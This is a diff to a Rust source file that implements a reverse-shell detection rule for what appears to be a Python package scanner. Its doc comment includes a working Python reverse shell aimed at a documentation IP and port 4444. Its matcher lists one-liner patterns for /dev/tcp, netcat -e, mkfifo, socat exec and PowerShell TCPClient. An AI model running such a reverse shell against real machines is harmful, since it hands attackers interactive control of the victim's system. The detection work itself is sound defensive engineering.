@@ -1,12 +1,40 @@
-use crate::finding::Finding;
-use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};
+use std::collections::BTreeMap;
+
+use crate::finding::{Finding, Severity};
+use crate::python::{Call, names};
+use crate::rules::{
+    PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text, string_finding,
+};
 
 declare_rule! {
-    /// Skeleton.
+    /// A reverse shell: a socket connected out, wired to a shell.
     ///
     /// ## What it finds
+    /// Within one function (or one module's top level, or one decoded
+    /// payload): a socket that connects out, its descriptor duplicated onto
+    /// standard input/output with `os.dup2` or handed to `pty.spawn`, and a
+    /// shell started (`/bin/sh`, `bash`, `cmd.exe`, `powershell`). Also shell
+    /// one-liners that do the same in a command string (`bash -i >&
+    /// /dev/tcp/HOST/PORT`, `nc -e /bin/sh`, `socat exec:`, PowerShell
+    /// `TCPClient` loops).
+    ///
     /// ## Why it matters
+    /// A reverse shell gives the attacker an interactive shell on the victim's
+    /// machine, with the installing user's rights. There is no legitimate
+    /// reason for a library to ship one.
+    ///
     /// ## Example
+    /// ```python
+    /// import socket, os, pty
+    /// s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    /// s.connect(("203.0.113.7", 4444))
+    /// for fd in (0, 1, 2):
+    ///     os.dup2(s.fileno(), fd)
+    /// pty.spawn("/bin/sh")
+    /// ```
+    ///
+    /// ## References
+    /// MITRE ATT&CK T1059.004 (Unix Shell), T1571 (Non-Standard Port).
     pub struct ReverseShell {
         id: "AY103",
         slug: "reverse-shell",
@@ -20,5 +48,76 @@ impl Rule for ReverseShell {
         &Self::META
     }
 
-    fn check(&self, _facts: &PackageFacts<'_>, _out: &mut Vec<Finding>) {}
+    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
+        for file in facts.python {
+            let mut scopes: BTreeMap<(Option<&str>, Option<&str>), Vec<&Call>> = BTreeMap::new();
+            for call in &file.calls {
+                scopes
+                    .entry((call.function.as_deref(), call.via.as_deref()))
+                    .or_default()
+                    .push(call);
+            }
+            for calls in scopes.values() {
+                let connect = calls.iter().find(|c| is_connect(&c.name));
+                let wire = calls
+                    .iter()
+                    .find(|c| matches!(&*c.name, "os.dup2" | "pty.spawn"));
+                let shell = calls.iter().find(|c| {
+                    (names::is_process(&c.name) || &*c.name == "pty.spawn")
+                        && shell_text(c).is_some_and(|t| names::is_shell_program(&t))
+                });
+                if let (Some(connect), Some(wire), Some(shell)) = (connect, wire, shell) {
+                    let peer = connect
+                        .arg_texts()
+                        .next()
+                        .map(|t| format!(" to {t}"))
+                        .unwrap_or_default();
+                    let mut f = code_finding(
+                        &Self::META,
+                        file,
+                        shell,
+                        format!(
+                            "reverse shell: a socket connected{peer} is wired to a shell with `{}`",
+                            wire.name
+                        ),
+                    );
+                    f.decoded = shell_text(shell);
+                    out.push(f);
+                }
+            }
+            for s in &file.strings {
+                if is_shell_one_liner(&s.value) {
+                    let mut f = string_finding(&Self::META, file, s, "reverse shell command line");
+                    if !s.context.is_automatic() && !passed_to_process(file, s.line) {
+                        f.severity = Severity::High;
+                    }
+                    out.push(f);
+                }
+            }
+        }
+    }
+}
+
+fn is_connect(name: &str) -> bool {
+    name.ends_with(".connect")
+        || name.ends_with(".connect_ex")
+        || name == "socket.create_connection"
+}
+
+fn passed_to_process(file: &crate::python::FileAnalysis, line: u32) -> bool {
+    file.calls
+        .iter()
+        .any(|c| c.line == line && (names::is_process(&c.name) || names::is_code_exec(&c.name)))
+}
+
+/// Shell one-liners that connect a shell to a remote host.
+fn is_shell_one_liner(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let has = |m: &str| lower.contains(m);
+    (has("/dev/tcp/") && (has("sh -i") || has(">&") || has("0>&1") || has("exec ")))
+        || ((has("nc ") || has("ncat ") || has("netcat "))
+            && (has(" -e /bin/") || has(" -e cmd") || has(" -c /bin/")))
+        || (has("mkfifo") && (has("nc ") || has("/bin/sh")))
+        || (has("socat ") && (has("exec:") || has("system:")) && has("tcp"))
+        || (has("tcpclient") && has("getstream") && (has("iex") || has("invoke-expression")))
 }
